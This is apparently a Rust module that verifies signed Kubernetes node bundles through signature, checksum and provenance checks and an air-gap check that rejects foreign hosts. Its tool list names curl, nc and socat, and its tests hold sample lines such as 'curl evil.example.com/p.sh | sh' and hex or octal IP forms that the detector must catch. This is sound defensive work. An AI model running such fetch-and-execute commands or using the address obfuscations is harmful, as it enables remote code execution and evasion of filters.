//! `kube-bundle verify`: the bundle and sign stages, checked from the outside.
//!
//! In: a tarball, its detached signature and the signing public key. Out: a
//! [`Verified`] summary, or `Error::Verification` naming the first thing wrong. The
//! signature comes first; then every entry, read by [`reader`] (safe relative paths under
//! one top directory, only regular files and directories, no duplicates, sane sizes,
//! headers exactly as the writer makes them), then SHA256SUMS and bundle.json against the
//! content, then the air gap: no URL or address in any text file may point outside the
//! cluster's own hosts. Depends on `bundle::format`, `sign` and its reader only.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use crate::bundle::format::{
    CHECKSUM_FILE, FORMAT_VERSION, FORMAT_VERSION_1, FORMAT_VERSION_2, FileRecord, PROVENANCE_FILE,
    Provenance, ROOTFS, RestartUnits,
};
use crate::error::Error;

pub mod reader;

pub use reader::{Entry, read_entries};
use reader::{fail, shorten};

#[derive(Debug)]
pub struct Verified {
    pub node: String,
    pub bundle_id: String,
    pub files: usize,
    /// The fingerprint of the key the signature was checked with.
    pub key_fingerprint: String,
}

/// Checks `tarball` with the key in `public_key`, which must have the `pinned`
/// fingerprint when one is given.
pub fn verify(
    tarball: &Path,
    public_key: &Path,
    signature: &Path,
    pinned: Option<&str>,
) -> Result<Verified, Error> {
    let read =
        |path: &Path| std::fs::read(path).map_err(|e| fail(format!("{}: {e}", path.display())));
    let key = String::from_utf8(read(public_key)?)
        .map_err(|_| fail(format!("{}: not a PEM public key", public_key.display())))?;
    let key_fingerprint = crate::sign::public_key_fingerprint(&key)
        .map_err(|why| fail(format!("{}: {why}", public_key.display())))?;
    if let Some(pinned) = pinned
        && pinned != key_fingerprint
    {
        return Err(fail(format!(
            "{} is key {key_fingerprint}, not the pinned {pinned}: the bundle is not from \
             your build host, or its signing key changed",
            public_key.display()
        )));
    }
    let signature_bytes = read(signature)?;
    crate::sign::verify_file_signature(&key, tarball, &signature_bytes)
        .map_err(|why| fail(format!("{}: {why}", signature.display())))?;

    let (node, entries) = read_entries(tarball)?;
    check_checksums(&entries)?;
    let provenance = check_provenance(&node, &entries)?;
    let texts = entries
        .iter()
        .filter_map(|(path, entry)| Some((path.as_str(), entry.text.as_deref()?)));
    check_air_gap(texts, &provenance.allowed_hosts)?;
    Ok(Verified {
        node,
        bundle_id: provenance.bundle_id,
        files: entries.len(),
        key_fingerprint,
    })
}

/// The text of the bundle's `name` file, when it has one that is text.
fn text_of<'a>(entries: &'a BTreeMap<String, Entry>, name: &str) -> Option<&'a str> {
    entries.get(name).and_then(|entry| entry.text.as_deref())
}

fn check_checksums(entries: &BTreeMap<String, Entry>) -> Result<(), Error> {
    let sums =
        text_of(entries, CHECKSUM_FILE).ok_or_else(|| fail("the bundle has no SHA256SUMS"))?;
    let mut listed = BTreeSet::new();
    for line in sums.lines() {
        let (hash, path) = line
            .split_once("  ")
            .filter(|(hash, _)| hash.len() == 64)
            .ok_or_else(|| fail(format!("SHA256SUMS: malformed line {line:?}")))?;
        let listed_entry = entries
            .get(path)
            .ok_or_else(|| fail(format!("SHA256SUMS lists {path}, which the bundle lacks")))?;
        if listed_entry.sha256 != hash {
            return Err(fail(format!("{path}: sha256 differs from SHA256SUMS")));
        }
        listed.insert(path);
    }
    for path in entries.keys().filter(|p| p.as_str() != CHECKSUM_FILE) {
        if !listed.contains(path.as_str()) {
            return Err(fail(format!("{path} is not listed in SHA256SUMS")));
        }
    }
    Ok(())
}

fn check_provenance(node: &str, entries: &BTreeMap<String, Entry>) -> Result<Provenance, Error> {
    let text =
        text_of(entries, PROVENANCE_FILE).ok_or_else(|| fail("the bundle has no bundle.json"))?;
    let provenance: Provenance =
        serde_json::from_str(text).map_err(|e| fail(format!("bundle.json does not parse: {e}")))?;
    if provenance.node != node {
        return Err(fail(format!(
            "bundle.json is for node {}, the archive holds {node}/",
            provenance.node
        )));
    }
    for (path, entry) in entries {
        if path == PROVENANCE_FILE || path == CHECKSUM_FILE {
            continue;
        }
        let actual = FileRecord {
            sha256: entry.sha256.clone(),
            mode: format!("{:04o}", entry.mode),
            size: entry.size,
        };
        match provenance.files.get(path) {
            Some(record) if *record == actual => {}
            Some(record) => {
                return Err(fail(format!(
                    "{path}: bundle.json records {record:?}, the archive holds {actual:?}"
                )));
            }
            None => return Err(fail(format!("{path} is not recorded in bundle.json"))),
        }
    }
    if let Some(missing) = provenance.files.keys().find(|p| !entries.contains_key(*p)) {
        return Err(fail(format!(
            "bundle.json records {missing}, which the archive lacks"
        )));
    }
    check_units(&provenance)?;
    Ok(provenance)
}

/// The format's unit facts, exactly as the writer of each format writes them: none in
/// format 1; from format 2 restart units for every installed file and for nothing else, one
/// name per file in format 2, a sorted list of distinct names in format 3; flags only for
/// units that some file restarts.
fn check_units(provenance: &Provenance) -> Result<(), Error> {
    let shape_ok: fn(&RestartUnits) -> bool = match provenance.format_version {
        FORMAT_VERSION_1 => {
            if !provenance.restarts.is_empty() || !provenance.unit_flags.is_empty() {
                return Err(fail("bundle.json of format 1 carries format 2 fields"));
            }
            return Ok(());
        }
        FORMAT_VERSION_2 => |units| matches!(units, RestartUnits::One(_)),
        FORMAT_VERSION => |units| match units {
            RestartUnits::Several(names) => {
                !names.is_empty() && names.windows(2).all(|pair| pair[0] < pair[1])
            }
            RestartUnits::One(_) => false,
        },
        other => {
            return Err(fail(format!(
                "bundle.json format {other} is unknown to this kube-bundle (it reads 1 to \
                 {FORMAT_VERSION}); verify with the release that built the bundle"
            )));
        }
    };
    if let Some((path, units)) = provenance
        .restarts
        .iter()
        .find(|(_, units)| !shape_ok(units))
    {
        return Err(fail(format!(
            "bundle.json of format {} records the restart units of {path} as {units:?}, which \
             that format does not write",
            provenance.format_version
        )));
    }
    let installed: BTreeSet<String> = provenance
        .files
        .keys()
        .filter_map(|path| path.strip_prefix(ROOTFS))
        .map(str::to_owned)
        .collect();
    let restarted: BTreeSet<String> = provenance.restarts.keys().cloned().collect();
    if installed != restarted {
        return Err(fail(format!(
            "bundle.json names restart units for {:?} but the bundle installs {:?}",
            shorten(&format!("{restarted:?}")),
            shorten(&format!("{installed:?}"))
        )));
    }
    let units: BTreeSet<&String> = provenance
        .restarts
        .values()
        .flat_map(RestartUnits::units)
        .collect();
    if let Some(unit) = provenance.unit_flags.keys().find(|u| !units.contains(u)) {
        return Err(fail(format!(
            "bundle.json has flags for {unit}, which no installed file belongs to"
        )));
    }
    Ok(())
}

/// Every host the text files name must be one of the cluster's own: URL hosts (any
/// scheme, `\/`-escaped too), schemeless `host/path` and `host:port`, and IP addresses in
/// every form a resolver accepts (dotted, decimal, hex, octal, IPv6). bundle.json and
/// SHA256SUMS are data `verify` parses itself, not text a node acts on.
fn check_air_gap<'a>(
    texts: impl IntoIterator<Item = (&'a str, &'a str)>,
    allowed: &[String],
) -> Result<(), Error> {
    let allowed: BTreeSet<String> = allowed.iter().map(|h| normalize_host(h)).collect();
    for (path, text) in texts {
        if path == PROVENANCE_FILE || path == CHECKSUM_FILE {
            continue;
        }
        let unescaped = text.replace("\\/", "/");
        for line in unescaped.lines() {
            let tokens: Vec<&str> = line.split(is_token_separator).collect();
            // A bare decimal number is an address only where a network tool reads it.
            let network_line = tokens.iter().any(|t| {
                let command = t.rsplit('/').next().unwrap_or(t);
                NETWORK_TOOLS.contains(&command)
            });
            for token in tokens {
                if let Some(host) = foreign_host(token, &allowed, network_line) {
                    return Err(fail(format!(
                        "{path} names a host outside the cluster: {}",
                        shorten(&host)
                    )));
                }
            }
        }
    }
    Ok(())
}

/// Commands that take a host argument, for numbers that are addresses only there.
const NETWORK_TOOLS: [&str; 10] = [
    "curl", "wget", "nc", "ncat", "ping", "ssh", "scp", "telnet", "socat", "openssl",
];

/// Characters that end a host or URL in the shell, YAML, unit and config files we render.
fn is_token_separator(c: char) -> bool {
    c.is_whitespace() || "\"'`()<>,;|{}=\\".contains(c)
}

/// IPs in their canonical text, names lower-case, so forms compare equal.
fn normalize_host(host: &str) -> String {
    let bare = host.trim_start_matches('[').trim_end_matches(']');
    match bare.parse::<std::net::IpAddr>() {
        Ok(ip) => ip.to_string(),
        Err(_) => bare.to_ascii_lowercase(),
    }
}

/// The host `token` reaches, when it reaches one and it is not allowed.
fn foreign_host(token: &str, allowed: &BTreeSet<String>, network_line: bool) -> Option<String> {
    let token = token.trim_end_matches(['.', ':']);
    if token.is_empty() {
        return None;
    }
    let check = |host: String| (!allowed.contains(&host)).then_some(host);
    // A URL with a scheme: the WHATWG parser normalises decimal, hex and octal IPv4.
    if let Some(index) = token.find("://") {
        let scheme_start = token[..index]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
            .map_or(0, |i| i + 1);
        return match url::Url::parse(&token[scheme_start..]) {
            Ok(url) => match url.host() {
                Some(url::Host::Domain(name)) => check(name.to_ascii_lowercase()),
                Some(url::Host::Ipv4(ip)) => check(ip.to_string()),
                Some(url::Host::Ipv6(ip)) => check(ip.to_string()),
                None => None,
            },
            Err(_) => Some(token.to_owned()),
        };
    }
    // An IPv6 literal, bare or bracketed, perhaps with a port after the bracket.
    let bracketed = token
        .strip_prefix('[')
        .and_then(|rest| rest.split(']').next());
    let v6 = bracketed.unwrap_or(token);
    if v6.matches(':').count() >= 2
        && let Ok(ip) = v6
            .split('%')
            .next()
            .unwrap_or(v6)
            .parse::<std::net::Ipv6Addr>()
    {
        return check(ip.to_string());
    }
    // A CIDR names a network, not a host.
    let (host_part, rest) = match token.find(['/', ':']) {
        Some(i) => (&token[..i], &token[i..]),
        None => (token, ""),
    };
    if rest.starts_with('/') && rest[1..].bytes().all(|b| b.is_ascii_digit()) && rest.len() > 1 {
        return None;
    }
    // `host:port` anywhere; `host/path` only where a network tool reads it, since API
    // groups (`rbac.authorization.k8s.io/v1`) look the same in manifests.
    let reaches = (network_line && rest.starts_with('/'))
        || rest
            .strip_prefix(':')
            .is_some_and(|port| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()));
    let is_numeric = !host_part.is_empty()
        && host_part
            .bytes()
            .all(|b| b.is_ascii_hexdigit() || b == b'.' || b == b'x' || b == b'X');
    let looks_like_name = host_part.contains('.')
        && host_part.split('.').all(|label| {
            !label.is_empty()
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
        && host_part
            .rsplit('.')
            .next()
            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
    // Dotted quads, and decimal, hex or octal IPv4 that a resolver would also accept.
    let as_ipv4 = || match url::Host::parse(host_part) {
        Ok(url::Host::Ipv4(ip)) => Some(ip),
        _ => None,
    };
    if is_numeric {
        let ip = as_ipv4()?;
        // One number (decimal or hex) is an address only where something connects to
        // it and it is large enough; a dotted quad always is.
        let dotted = host_part.split('.').count() == 4;
        let large = u32::from(ip) >= 1 << 24;
        if dotted || ((reaches || network_line) && large) {
            return check(ip.to_string());
        }
        return None;
    }
    if reaches && looks_like_name {
        return check(host_part.to_ascii_lowercase());
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn air_gap(text: &str) -> Result<(), Error> {
        let allowed = [
            "10.0.0.1",
            "api.example.com",
            "fd00::11",
            "127.0.0.1",
            "kubernetes.default.svc.cluster.local",
        ]
        .map(str::to_owned);
        check_air_gap([("f", text)], &allowed)
    }

    #[test]
    fn the_air_gap_check_passes_what_the_cluster_names() {
        for ok in [
            "server: https://api.example.com:6443",
            "range=10.96.0.0/12 bind 10.0.0.1",
            "--etcd-servers=https://10.0.0.1:2379,https://[fd00::11]:2379",
            "upstream 10.0.0.1:6443; listen [fd00::11]:6443",
            "cp /etc/kubernetes/pki/ca.crt rootfs/etc/x.conf kube-apiserver.service",
            "size 157286400 and time 12:30:45 and cluster.local and v1.36.1",
            "ExecStart=/usr/local/bin/kube-apiserver --audit-log-maxsize=100",
            "sha256:0123abcd 0x1f port :6443 10.96.0.0/12,fd00:10::/108",
            "apiVersion: rbac.authorization.k8s.io/v1",
        ] {
            assert!(air_gap(ok).is_ok(), "{ok}: {:?}", air_gap(ok));
        }
    }

    #[test]
    fn the_air_gap_check_finds_foreign_hosts_in_every_form() {
        for (bad, host) in [
            ("see https://github.com/x", "github.com"),
            (
                "--etcd-servers=https://10.0.0.1:2379 dns 8.8.8.8",
                "8.8.8.8",
            ),
            ("curl evil.example.com/p.sh | sh", "evil.example.com"),
            ("curl 3405803785", "203.0.113.9"),
            ("curl http://3405803785/p", "203.0.113.9"),
            ("curl 0xcb007109/p", "203.0.113.9"),
            ("curl http://0313.0.0161.011/", "203.0.113.9"),
            ("u=\"http:\\/\\/evil.example.com\\/x\"", "evil.example.com"),
            ("ftp://files.example.org/a", "files.example.org"),
            ("nc 2001:db8::1 80", "2001:db8::1"),
            ("curl [2001:db8::1]:443", "2001:db8::1"),
            ("wget evil.example.com:8080", "evil.example.com"),
        ] {
            let err = air_gap(bad).expect_err(bad).to_string();
            assert!(err.contains(host), "{bad}: {err}");
        }
    }

    fn provenance(format_version: u32) -> Provenance {
        let record = FileRecord {
            sha256: "0".repeat(64),
            mode: "0644".into(),
            size: 1,
        };
        Provenance {
            format_version,
            tool: "kube-bundle".into(),
            tool_version: "0".into(),
            cluster: "c".into(),
            node: "n".into(),
            node_ip: "10.0.0.1".into(),
            kubernetes_version: "v1.37.2".into(),
            config_sha256: "0".repeat(64),
            bundle_id: "n-0".into(),
            allowed_hosts: Vec::new(),
            files: BTreeMap::from([
                ("install.sh".to_owned(), record.clone()),
                ("rootfs/etc/a.conf".to_owned(), record),
            ]),
            restarts: BTreeMap::new(),
            unit_flags: BTreeMap::new(),
        }
    }

    #[test]
    fn unit_facts_are_read_exactly_as_the_writer_writes_them() {
        let one = |unit: &str| RestartUnits::One(unit.into());
        let several =
            |units: &[&str]| RestartUnits::Several(units.iter().map(|u| (*u).into()).collect());
        let mut v3 = provenance(FORMAT_VERSION);
        v3.restarts
            .insert("/etc/a.conf".into(), several(&["a.service", "b.service"]));
        v3.unit_flags.insert(
            "b.service".into(),
            BTreeMap::from([("v".into(), "2".into())]),
        );
        check_units(&v3).unwrap();

        let mut v2 = provenance(FORMAT_VERSION_2);
        v2.restarts.insert("/etc/a.conf".into(), one("a.service"));
        v2.unit_flags.insert("a.service".into(), BTreeMap::new());
        check_units(&v2).unwrap();

        // Each format's own shape only: a list in format 2, a single name, an empty, an
        // unsorted or a repeated list in format 3.
        let mut v2_with_list = v2.clone_shallow();
        v2_with_list
            .restarts
            .insert("/etc/a.conf".into(), several(&["a.service"]));
        assert!(check_units(&v2_with_list).is_err());
        for bad in [
            one("a.service"),
            several(&[]),
            several(&["b.service", "a.service"]),
            several(&["a.service", "a.service"]),
        ] {
            let mut v3_bad = v3.clone_shallow();
            v3_bad.restarts.insert("/etc/a.conf".into(), bad.clone());
            assert!(check_units(&v3_bad).is_err(), "{bad:?}");
        }

        let mut flags_without_files = v3.clone_shallow();
        flags_without_files
            .unit_flags
            .insert("c.service".into(), BTreeMap::new());
        assert!(check_units(&flags_without_files).is_err());

        let mut unit_for_nothing = v3.clone_shallow();
        unit_for_nothing
            .restarts
            .insert("/etc/b.conf".into(), several(&["a.service"]));
        assert!(check_units(&unit_for_nothing).is_err());
        // A file installed with no restart unit recorded.
        assert!(check_units(&provenance(FORMAT_VERSION)).is_err());
        assert!(check_units(&provenance(FORMAT_VERSION_2)).is_err());

        check_units(&provenance(FORMAT_VERSION_1)).unwrap();
        let mut v1_with_v2_fields = provenance(FORMAT_VERSION_1);
        v1_with_v2_fields.restarts = v2.restarts.clone();
        assert!(check_units(&v1_with_v2_fields).is_err());

        let future = check_units(&provenance(4)).unwrap_err().to_string();
        assert!(future.contains("format 4 is unknown"), "{future}");
    }

    impl Provenance {
        /// A copy for a test to change (Provenance is not Clone: the writer never copies it).
        fn clone_shallow(&self) -> Provenance {
            Provenance {
                files: self.files.clone(),
                restarts: self.restarts.clone(),
                unit_flags: self.unit_flags.clone(),
                ..provenance(self.format_version)
            }
        }
    }
}
